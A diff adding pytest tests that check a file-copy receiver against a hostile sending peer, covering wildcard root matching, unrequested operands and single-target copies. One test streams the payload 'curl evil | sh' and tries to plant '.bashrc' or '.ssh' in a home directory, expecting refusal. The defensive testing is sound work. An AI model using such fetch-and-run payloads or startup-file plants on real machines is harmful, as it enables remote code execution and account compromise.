@@ -260,6 +260,71 @@ def test_an_existing_directory_is_never_widened(world, hostile: HostileSource, o
         assert mtimes["sub"] == 1_000_000_000, mtimes  # ("" changed: "new" was created in it)
 
 
+def test_an_honest_wildcard_expansion_is_copied(world, hostile: HostileSource) -> None:
+    """Operand 0 a name, operand 1 a wildcard the source expanded to two roots."""
+    dest, _ = world
+    hostile.receive(dest, sources=2, rules=[("name", "report.pdf"), ("glob", "*.txt")])
+    roots = [("report.pdf", 0), ("a.txt", 1), ("b.txt", 1)]
+    for index, (name, operand) in enumerate(roots):
+        hostile.send(Msg.ROOT, [index, name, "f", "", operand, len(roots)])
+        hostile.stream(record("", name.encode(), root=index, file_id=index))
+    hostile.send(Msg.DONE, [3, sum(len(n) for n, _ in roots)])
+    kind, fields = outcome = hostile.outcome()
+    assert kind == "result" and fields[0] == 3 and fields[5] == 0, outcome
+    assert sorted(p.name for p in dest.iterdir()) == ["a.txt", "b.txt", "report.pdf"]
+
+
+@pytest.mark.parametrize("name, operand", [
+    ("x.sh", 1),         # not what the pattern allows
+    (".bashrc", 1),      # a hidden name: `*` never matches a leading '.'
+    ("a.txt", 0),        # matches operand 1's pattern, but claims operand 0 (a plain name)
+    (".ssh", 1),
+])
+def test_a_wildcard_root_must_match_its_own_operand(home: Path, hostile: HostileSource, name: str,
+                                                    operand: int) -> None:
+    hostile.receive(home, sources=2, rules=[("name", "report.pdf"), ("glob", "*.txt")])
+    hostile.send(Msg.ROOT, [0, "b.txt", "f", "", 1, 2])  # honest so far
+    hostile.send(Msg.ROOT, [1, name, "d" if name == ".ssh" else "f", "", operand, 2])
+    hostile.stream(record("", b"curl evil | sh\n", root=1))
+    hostile.send(Msg.DONE, [1, 0])
+    outcome = hostile.outcome()
+    assert outcome[0] == "error", outcome
+    assert "source misbehaved" in errors_of(outcome), outcome
+
+
+def test_a_root_of_an_operand_never_requested_is_refused(world, hostile: HostileSource) -> None:
+    dest, _ = world
+    hostile.receive(dest, rules=[("glob", "*.txt")])
+    hostile.send(Msg.ROOT, [0, "a.txt", "f", "", 1, 1])  # operand 1: there is only operand 0
+    hostile.send(Msg.DONE, [0, 0])
+    outcome = hostile.outcome()
+    assert outcome[0] in ("error", "exited"), outcome
+    assert "never requested" in errors_of(outcome) or outcome[0] == "exited", outcome
+    assert list(dest.iterdir()) == []
+
+
+@pytest.mark.parametrize("roots", [2, 0])
+def test_only_one_root_may_become_a_single_target(world, hostile: HostileSource, roots: int) -> None:
+    """DST does not exist: one root becomes DST itself. A source saying it
+    sends two is refused before any write; one sending a second root unsaid
+    is a protocol error."""
+    dest, _ = world
+    target = dest / "single"
+    hostile.receive(target, rules=[("glob", "*.txt")])
+    for index, name in enumerate(["a.txt", "b.txt"]):
+        hostile.send(Msg.ROOT, [index, name, "f", "", 0, roots])
+        hostile.stream(record("", name.encode(), root=index, file_id=index))
+    hostile.send(Msg.DONE, [2, 10])
+    outcome = hostile.outcome()
+    assert outcome[0] in ("error", "exited"), outcome
+    if roots:
+        assert "not a directory, but the source operand matches 2 names" in errors_of(outcome), outcome
+        assert list(dest.iterdir()) == []
+    else:
+        assert "second root" in errors_of(outcome) or outcome[0] == "exited", outcome
+    assert not (dest / "b.txt").exists()
+
+
 def test_entry_never_requested_is_refused(world, hostile: HostileSource) -> None:
     dest, _ = world
     hostile.receive(dest, sources=1)
